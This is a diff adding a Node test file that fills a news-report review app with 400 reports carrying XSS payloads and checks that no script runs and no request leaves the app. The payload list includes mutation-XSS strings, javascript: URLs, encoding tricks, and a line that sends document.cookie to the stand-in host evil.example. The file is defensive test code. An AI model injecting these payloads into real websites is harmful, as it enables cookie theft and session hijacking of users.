@@ -1,0 +1,89 @@
+// Four hundred reports that want to be more than words: no script of theirs runs, and no request leaves the desk.
+
+import { after, before, test } from 'node:test';
+import assert from 'node:assert/strict';
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { ask, browser, code, open, serve } from './desk.mjs';
+
+const SCRIPTS = ['window.attacked=1', 'alert(1)', 'fetch(`//evil.example/${document.cookie}`)', 'document.title=`attacked`', 'navigator.sendBeacon(`//evil.example/b`)'];
+const SHELLS = [
+  (js) => `<script>${js}</script>`, (js) => `<ScRiPt/x>${js}</ScRiPt>`, (js) => `<img src=x onerror="${js}">`, (js) => `<img/src/onerror=${js}>`,
+  (js) => `<svg onload="${js}">`, (js) => `<svg><animate onbegin="${js}" attributeName=x dur=1s>`, (js) => `<svg><script>${js}</script></svg>`, (js) => `<svg><a xlink:href="javascript:${js}"><text y=20>x</text></a></svg>`,
+  (js) => `<iframe srcdoc="<script>${js}</script>">`, (js) => `<iframe src="javascript:${js}">`, (js) => `<object data="javascript:${js}">`, (js) => `<embed src="javascript:${js}">`,
+  (js) => `<body onload="${js}">`, (js) => `<video><source onerror="${js}">`, (js) => `<details open ontoggle="${js}">`, (js) => `<input autofocus onfocus="${js}">`,
+  (js) => `<marquee onstart="${js}">`, (js) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${js}&gt;">`, (js) => `<noscript><p title="</noscript><img src=x onerror=${js}>">`, (js) => `<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${js} src>">`,
+  (js) => `"><script>${js}</script>`, (js) => `'><script>${js}</script>`, (js) => `" onmouseover="${js}" x="`, (js) => `' onmouseover='${js}' x='`,
+  (js) => `</title><script>${js}</script>`, (js) => `</script><script>${js}</script>`, (js) => `</textarea><script>${js}</script>`, (js) => `]]><script>${js}</script>`,
+  (js) => `<a href="javascript:${js}">a doctor</a>`, (js) => `<a href="data:text/html,<script>${js}</script>">a doctor</a>`, (js) => `<base href="//evil.example/"><script src="x.js"></script>`, () => '<link rel=stylesheet href=//evil.example/x.css>',
+  () => '<style>@import "//evil.example/x.css"; body{background:url(//evil.example/b.gif)}</style>', () => '<meta http-equiv=refresh content="0;url=//evil.example/">', () => '<img src=//evil.example/beacon.gif width=1>', () => '<img srcset="//evil.example/a 1x">',
+  () => '<video poster=//evil.example/p.gif>', () => '<input type=image src=//evil.example/i.gif>', () => '<audio src=//evil.example/a.ogg autoplay>', () => '<table background=//evil.example/t.gif>',
+  (js) => `{{constructor.constructor('${js}')()}}`, (js) => `\${${js}}`, (js) => `<%= ${js} %>`, (js) => `&lt;script&gt;${js}&lt;/script&gt;`,
+  (js) => `\u202e<script>${js}</script>\u202c`, (js) => `\u2028<script>${js}</script>`, (js) => `<scr\u0000ipt>${js}</scr\u0000ipt>`, (js) => `+ADw-script+AD4-${js}+ADw-/script+AD4-`,
+];
+
+let desk; let page; let seen;
+
+before(async () => {
+  const reports = [];
+  for (const [at, shell] of SHELLS.entries()) {
+    for (const [nth, js] of SCRIPTS.entries()) {
+      const attack = shell(js);
+      reports.push({
+        id: `${attack} ${at}-${nth}`, publisher: `${attack} Post`, title: `${attack} falls`, date: '2018-12-13', url: `javascript:${js}`,
+        text: `HAJIN, December 13 - Government forces shelled the market of ${attack} in Hajin on Wednesday, killing four members of ${attack}, a doctor from ${attack} said. Air strikes killed two civilians in Hajin on Tuesday.\n\n${attack}\n`,
+      });
+    }
+  }
+  while (reports.length < 400) reports.push({ ...reports[reports.length % 200], id: `again ${reports.length}`, text: `${reports[reports.length % 200].text} Again ${reports.length}.` });
+  const path = join(process.env.WORK, 'hostile.jsonl');
+  writeFileSync(path, reports.map((report) => JSON.stringify(report)).join('\n'));
+  desk = await serve(code('hostile', path), '--by', '<script>window.attacked=1</script>');
+  ({ page, seen } = await open(desk));
+});
+after(async () => { await browser.close(); await desk.kill(); });
+
+const quiet = async (where) => {
+  assert.equal(await page.evaluate(() => window.attacked), undefined, where);
+  assert.notEqual(await page.title(), 'attacked', where);
+  assert.deepEqual(seen.dialogs, [], where);
+  assert.deepEqual(seen.foreign, [], where);
+};
+
+test('no page of the desk runs a script of a report or asks another machine', async () => {
+  const { total, reports } = await ask(page, '/reports.json?limit=1000');
+  assert.ok(total >= 390, `${total} reports`);
+  const { events } = await ask(page, '/events.json?limit=1000');
+  assert.ok(events.length > 0);
+  const paths = ['/', '/events?limit=1000', '/review', '/control', '/reports?limit=1000', '/log'];
+  paths.push(...events.slice(0, 60).flatMap((event) => [`/events/${event.event_id}`, `/review?event=${event.event_id}`]));
+  paths.push(...reports.map((report) => `/reports/${report.report_id}?skips=yes`));
+  for (const path of paths) {
+    await page.goto(desk.origin + path);
+    for (const element of await page.locator('details:not([open]) summary').all()) await element.click().catch(() => {});
+    await quiet(path);
+  }
+  console.log(`${paths.length} pages over ${total} hostile reports`);
+});
+
+test('what is typed is as harmless as what is read', async () => {
+  for (const shell of SHELLS) {
+    const attack = shell('window.attacked=1');
+    await page.goto(`${desk.origin}/events?q=${encodeURIComponent(attack)}`);
+    await quiet(attack);
+    await page.goto(`${desk.origin}/events?actor=${encodeURIComponent(attack)}`);
+    await quiet(attack);
+    await page.goto(`${desk.origin}/events/${encodeURIComponent(attack)}`);
+    await quiet(attack);
+  }
+});
+
+test('a comment that is markup stays words', async () => {
+  const { events } = await ask(page, '/events.json?limit=1');
+  await page.goto(`${desk.origin}/review?event=${events[0].event_id}`);
+  await page.keyboard.press('c');
+  await page.fill('dialog input[name="text"]', '<img src=//evil.example/c.gif onerror="window.attacked=1">');
+  await Promise.all([page.waitForEvent('load'), page.keyboard.press('Enter')]);
+  await page.goto(`${desk.origin}/log`);
+  await quiet('/log');
+});
